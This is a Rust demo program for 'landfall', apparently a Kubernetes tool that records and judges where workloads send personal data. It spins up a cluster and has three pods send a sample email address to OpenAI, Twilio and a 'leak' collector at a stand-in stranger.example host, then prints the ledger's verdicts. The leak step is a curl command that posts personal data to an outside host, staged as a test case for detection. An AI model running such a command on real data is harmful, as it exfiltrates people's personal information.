//! `make demo-cluster`: two nodes, the example agreement, operator and agents as pods, pods with real clients.
#![expect(clippy::print_stdout, reason = "shows what a person would see")]

use std::{error::Error, time::Instant};

use landfall_tests::story::{Client, Story};

#[tokio::main]
async fn main() -> Result<(), Box<dyn Error>> {
    let began = Instant::now();
    let say = |what: &str| println!("\n[{:>3} s] {what}", began.elapsed().as_secs());
    say("Two nodes, node-eu (eu-central-1) and node-us (us-east-1); CRDs, agreement, operator and agents");
    let (story, _providers) = Story::begin().await?;
    println!("{}", story.cluster.kubectl(&["get", "pods", "-n", "landfall-system", "-o", "wide"], "")?);

    say("Workloads of the namespace crm, which consents to the agreement, send data");
    for (name, node, host) in [
        ("assistant", "node-eu", "https://eu.api.openai.com/v1/chat"),
        ("messaging", "node-us", "https://api.twilio.com/messages"),
        ("leak", "node-us", "http://collector.stranger.example/contacts"),
    ] {
        let client = Client::start(&story, name, node)?;
        let send = format!(
            "curl -sk --retry 20 --retry-delay 1 --retry-all-errors -d email=jane.roe@example.org -o /dev/null {host}"
        );
        client.run(&story, &send)?;
        println!("crm/Deployment/{name} on {node} -> {host}");
    }

    say("The register in the cluster: kubectl get agr,sub,tb -A");
    println!("{}", story.cluster.kubectl(&["get", "agr,sub,tb", "-A"], "")?);

    say("What was judged, from the ledger: landfall ledger show");
    let shown = story.wait_for("judged edges", || {
        let shown = story.ledger("show", &[]).map_err(|error| error.to_string())?;
        let all = ["openai", "twilio", "stranger.example"].iter().all(|name| shown.contains(name));
        if all { Ok(shown) } else { Err(shown) }
    })?;
    println!("{shown}");

    say("Events: kubectl get events -n privacy");
    println!("{}", story.cluster.kubectl(&["get", "events", "-n", "privacy", "--sort-by=.lastTimestamp"], "")?);
    say("Done; taking it down");
    Ok(())
}
